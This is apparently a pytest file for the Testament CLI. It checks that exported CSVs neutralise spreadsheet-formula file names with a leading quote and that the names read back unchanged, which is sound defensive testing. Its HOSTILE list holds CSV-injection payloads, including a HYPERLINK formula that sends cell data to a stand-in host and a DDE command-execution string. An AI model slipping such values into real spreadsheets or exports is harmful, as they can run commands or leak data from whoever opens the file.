"""`testament export persons` on lists whose file names are spreadsheet formulas: every such cell is written
with a leading `'` (OWASP's CSV-injection rule), and what Testament reads back is what it wrote."""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from testament.cli.main import app
from testament.estimate import CaptureHistory
from testament.estimate.casedata import history_from_case
from testament.link import import_labels
from testament.settings import Settings
from testament.store.case import Case

runner = CliRunner()
ENV = {"TESTAMENT_ACTOR": "cli-test"}

# The synthetic lists 01..05 renamed (keeping their format); no file name may hold "/", so the link target
# is written without one.
HOSTILE = [
    '=HYPERLINK("x.example?q="&A1,"y")',
    "+cmd|' calc'!A0",
    "@SUM(1)",
    "-2+3",
    " =1+1",
]


FILES = [h + ext for h, ext in zip(HOSTILE, (".csv", ".csv", ".xlsx", ".json", ".csv"), strict=True)]


def _run(*args: object):
    return runner.invoke(app, [str(a) for a in args], env=ENV)


def _formula_start(cell: str) -> bool:
    """What OWASP says a cell must not begin with (also after leading blanks)."""
    return bool(cell) and (cell[0] in "=+-@\t\r\n" or cell.lstrip()[:1] in ("=", "+", "-", "@"))


@pytest.fixture(scope="module")
def linked_hostile_case(tmp_path_factory: pytest.TempPathFactory, small_scenario: Path) -> Path:
    """The case both tests read, ingested and linked once (a trained link run: seconds)."""
    tmp_path = tmp_path_factory.mktemp("hostile")
    lists = sorted((small_scenario / "lists").iterdir())
    folder = tmp_path / "lists"
    folder.mkdir()
    paths = []
    for i, source in enumerate(lists):
        name = (HOSTILE[i] if i < len(HOSTILE) else source.stem) + source.suffix
        shutil.copyfile(source, folder / name)
        paths.append(folder / name)
    case = tmp_path / "case"
    assert _run("init", case).exit_code == 0
    result = _run("ingest", case, *paths, "--skip-bad-rows", "--json")
    assert result.exit_code in (0, 1), result.output
    assert all(f["status"] == "ingested" for f in json.loads(result.stdout)["files"])
    result = _run("link", case, "--queue", "0", "--json")
    assert result.exit_code == 0, result.output
    return case


@pytest.fixture
def hostile_case(linked_hostile_case: Path, tmp_path: Path) -> Path:
    """A copy of the linked case for one test: what a test writes (a label) stays out of the other's."""
    return Path(shutil.copytree(linked_hostile_case, tmp_path / "case"))


@pytest.mark.sqlite
def test_export_persons_neutralises_formula_file_names(hostile_case: Path, tmp_path: Path) -> None:
    out = tmp_path / "persons.csv"
    result = _run("export", "persons", hostile_case, "--out", out)
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    dangerous = [c for c in cells if _formula_start(c)]
    assert not dangerous, sorted(set(dangerous))[:5]
    names = {c for c in cells if c.startswith("'")}
    assert names == {"'" + h for h in FILES}

    # `testament estimate` reads the export back with the file names as they were
    result = _run("estimate", out, "--json", "--method", "loglinear", "--model", "M0")
    assert result.exit_code == 0, result.output
    used = {item["name"] for item in json.loads(result.stdout)[0]["input"]["lists"]}
    assert {f.strip() for f in FILES} <= used  # (estimate strips the blanks around a file name)

    # a labels file built from the export's cells finds the records again (the quote is Testament's own)
    with out.open(encoding="utf-8", newline="") as fh:
        rows = [r for r in csv.DictReader(fh) if r["source_file"].startswith("'")]
    a, b = rows[0], rows[-1]
    labels = tmp_path / "labels.csv"
    with labels.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["file_a", "row_a", "file_b", "row_b", "decision"])
        writer.writerow([a["source_file"], a["row"], b["source_file"], b["row"], "different"])
    with Case.open(hostile_case, settings=Settings(actor="tester")) as case:
        assert import_labels(case, labels, reviewer="tester").imported == 1


@pytest.mark.sqlite
def test_pattern_csv_of_formula_list_names_round_trips(hostile_case: Path, tmp_path: Path) -> None:
    with Case.open(hostile_case, settings=Settings(actor="tester")) as case:
        history = history_from_case(case)[None]
    assert set(FILES) <= set(history.lists)
    out = tmp_path / "patterns.csv"
    history.to_csv(out)
    with out.open(encoding="utf-8", newline="") as fh:
        header = next(csv.reader(fh))
    assert not [h for h in header if _formula_start(h)]
    again = CaptureHistory.from_pattern_csv(out)[None]
    assert again.lists == history.lists and np.array_equal(again.counts, history.counts)
    assert again.sha256() == history.sha256() == hashlib.sha256(out.read_bytes()).hexdigest()
    result = runner.invoke(app, ["estimate", str(out), "--json"], env=ENV)
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)[0]["observed"] == history.observed
